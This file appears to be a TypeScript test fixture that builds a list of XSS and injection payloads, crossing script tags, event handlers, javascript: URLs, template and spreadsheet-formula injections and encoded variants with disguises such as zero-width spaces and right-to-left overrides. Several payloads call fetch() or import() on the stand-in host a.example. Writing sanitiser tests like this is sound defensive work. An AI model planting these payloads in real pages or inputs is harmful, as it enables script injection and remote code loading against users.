/** For tests: texts that try to become something else than text, one for each pairing of a trick and a disguise. */

const ACTS = ['alert(1)', 'fetch(`//a.example`)', 'import(`//a.example`)'];

const TRICKS = [
  ...ACTS.flatMap((act) => [
    `<script>${act}</script>`,
    `<img src=x onerror=${act}>`,
    `<svg onload=${act}>`,
    `<details open ontoggle=${act}>`,
    `<a href="javascript:${act}">x</a>`,
    `javascript:${act}`,
    `[x](javascript:${act})`,
    `"><script>${act}</script>`,
    `' onfocus=${act} autofocus='`,
    `\${${act}}`,
    `{{${act}}}`,
  ]),
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//a.example/x.css>',
  '<iframe src=//a.example></iframe>',
  '<base href=//a.example>',
  '<meta http-equiv=refresh content=0;url=//a.example>',
  '<!-- x -->',
  '<?xml version="1.0"?>',
  '<![CDATA[x]]>',
  '</textarea><b>x',
  '<b',
  '![x](https://a.example/x.png)',
  'data:text/html,x',
  '&lt;script&gt;x&lt;/script&gt;',
  '&#60;b&#62;',
  '＜script＞x＜/script＞',
  '‹script›x‹/script›',
  '%3Cscript%3Ex',
  '\\u003cscript\\u003e',
  '+ADw-script+AD4-',
  '=HYPERLINK("https://a.example")',
  '@import url(//a.example)',
  'expression(alert(1))',
  '**<b>x</b>**',
  '_<i onclick=x>_',
];

const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `Câu hỏi ${text} thì sao?`,
  (text) => `**${text}**`,
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => `\u202e${text}`,
];

export const PAYLOADS: readonly string[] = TRICKS.flatMap((trick) => DISGUISES.map((disguise) => disguise(trick)));
